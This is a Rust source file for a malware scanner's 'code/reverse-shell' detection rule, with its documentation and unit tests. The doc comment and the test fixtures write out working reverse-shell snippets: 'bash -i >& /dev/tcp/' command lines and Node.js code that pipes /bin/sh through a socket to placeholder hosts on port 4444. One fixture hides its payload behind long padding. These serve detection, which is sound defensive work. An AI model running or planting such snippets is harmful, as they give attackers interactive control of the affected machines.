//! `code/reverse-shell`.

use super::{chain, finding, locality, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A reverse shell: an interactive shell wired to a network socket.
    ///
    /// ## What it detects
    /// `bash -i >& /dev/tcp/HOST/PORT`, `nc -e`, `mkfifo` pipelines and similar command lines, including ones
    /// assembled at run time (`[198, 51, 100, 23].join('.')` is folded), in a file that spawns processes or opens
    /// sockets.
    ///
    /// ## Why it matters
    /// A reverse shell gives an attacker interactive access to the installing machine or CI runner.
    ///
    /// ## Example
    /// `spawn('/bin/bash', ['-c', 'bash -i >& /dev/tcp/' + h + '/' + p + ' 0>&1'], { detached: true })`
    ///
    /// ## Known false positives
    /// Security tooling and CTF packages contain these strings as data; without a spawn or socket in the same file
    /// the rule stays quiet.
    pub static REVERSE_SHELL = { id: "code/reverse-shell", severity: Severity::Critical };
}

/// One finding per reverse-shell command in a spawning or networking file.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = per_signal(p, Kind::InteractiveShell, |f, s| {
        // An interactive shell in a file that opens sockets: its stdio is the socket. In a
        // bundle only the same function counts (playwright-core's `utilsBundle.js` holds a
        // PowerShell launcher and an unrelated HTTP client).
        if !f.has(Kind::Network) {
            return None;
        }
        let loc = locality(p, f, s, &[Kind::Network]);
        if loc < Locality::File {
            return None;
        }
        let msg = format!(
            "{} spawned in a file that opens network connections",
            s.detail
        );
        Some(finding(
            &REVERSE_SHELL,
            REVERSE_SHELL.default_severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network]),
        ))
    });
    out.extend(per_signal(p, Kind::ReverseShell, |f, s| {
        let loc = locality(
            p,
            f,
            s,
            &[Kind::Spawn, Kind::Network, Kind::LifecycleScript],
        );
        if loc < Locality::File {
            return None;
        }
        let msg = format!("reverse shell: `{}`", s.detail);
        Some(finding(
            &REVERSE_SHELL,
            REVERSE_SHELL.default_severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Spawn, Kind::Endpoint]),
        ))
    }));
    out
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    /// A reverse shell after 800 KiB of comment lines (or blank lines) is no bundle: padding
    /// does not make module-level code far from itself.
    #[test]
    fn positive_after_comment_and_blank_padding() {
        let shell = "const net = require('net');\nconst { spawn } = require('child_process');\nconst c = net.connect(4444, '203.0.113.9');\nconst sh = spawn('/bin/sh', []);\nc.pipe(sh.stdin);\nsh.stdout.pipe(c);\n";
        for pad in [
            "// aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=\n".repeat(12_000),
            "\n".repeat(800 * 1024),
        ] {
            let src = format!("{pad}{shell}");
            let s = scan(&[("package.json", PJ), ("setup.js", &src)]);
            assert_eq!(hits(&s, "code/reverse-shell").len(), 1, "{:?}", s.findings);
            assert_eq!(s.verdict, crate::Verdict::Malicious);
        }
    }

    /// rsbuild bundles `open` (PowerShell to open a URL on Windows); the only `http` import in
    /// the package is in a type declaration file, which runs nothing.
    #[test]
    fn negative_powershell_url_opener_beside_type_declarations() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/open.js",
                "const cp = require('child_process');\nmodule.exports = (u) => cp.spawn(`${process.env.SYSTEMROOT}\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe`, ['-NoProfile', '-Command', 'Start', u]);\n",
            ),
            (
                "dist/index.d.ts",
                "import * as http from 'http';\nexport declare function serve(s: http.Server): void;\n",
            ),
        ]);
        assert!(
            hits(&s, "code/reverse-shell").is_empty(),
            "{:?}",
            s.findings
        );
    }

    #[test]
    fn positive_folded() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "r.js",
                "const { spawn } = require('child_process');\nconst h = [203, 0, 113, 5].join('.');\nspawn('/bin/sh', ['-c', 'bash -i >& /dev/tcp/' + h + '/4444 0>&1']);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/reverse-shell"),
            vec![("r.js".to_string(), 3)]
        );
    }

    #[test]
    fn negative_string_only() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "d.js",
                "module.exports = { example: 'bash -i is an interactive shell' };\n",
            ),
        ]);
        assert!(hits(&s, "code/reverse-shell").is_empty());
    }

    #[test]
    fn positive_socket_piped_shell() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "r.js",
                "const net = require('net'), cp = require('child_process');\nconst c = net.connect(4444, 'h.example.net', () => {\n  const sh = cp.spawn('/bin/sh', []);\n  c.pipe(sh.stdin); sh.stdout.pipe(c);\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/reverse-shell"),
            vec![("r.js".to_string(), 3)]
        );
    }

    #[test]
    fn positive_interactive_shell_next_to_socket() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "r.js",
                "const net = require('net');\nconst cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', ['-i']);\nconst c = new net.Socket();\nc.connect(4444, 'h.example.net', function () { c.pipe(sh.stdin); });\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/reverse-shell"),
            vec![("r.js".to_string(), 3)]
        );
    }
}
